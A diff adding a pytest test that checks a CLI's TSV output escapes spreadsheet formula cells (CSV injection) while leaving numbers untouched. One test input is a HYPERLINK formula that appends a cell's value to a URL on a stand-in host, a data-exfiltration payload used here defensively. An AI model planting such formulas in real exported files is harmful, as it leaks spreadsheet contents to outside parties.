@@ -84,3 +84,21 @@ def test_a_benchmark_file_construct_writes_keeps_its_text_for_the_loaders(tmp_pa
     write_benchmark_file(tmp_path / "set.csv", rows)
     table = read_table(tmp_path / "set.csv")
     assert table.to_dict(orient="records") == rows
+
+
+def test_tsv_tables_printed_for_spreadsheets_quote_formulas_but_not_numbers() -> None:
+    """``--format tsv`` says "for cut and spreadsheets": a text cell there is neutralised as in the CSVs."""
+    from rich.table import Table
+
+    from xlingmed.cli.tables import as_json, as_tsv
+
+    table = Table("what", "value", title="t")
+    for what, value in (('=HYPERLINK("http://x/?"&C2,"see")', "-0.05"), ("@SUM(A1)", "+3.5%"),
+                        ("-x then text", "1,204"), ("'quoted", "-"), ("plain", "–")):  # fmt: skip
+        table.add_row(what, value)
+    lines = as_tsv(table).split("\n")
+    assert lines[2:] == [
+        "'=HYPERLINK(\"http://x/?\"&C2,\"see\")\t-0.05", "'@SUM(A1)\t+3.5%", "'-x then text\t1,204",
+        "''quoted\t-", "plain\t–",
+    ]  # fmt: skip
+    assert '"=HYPERLINK' in as_json(table)  # JSON keeps the text raw
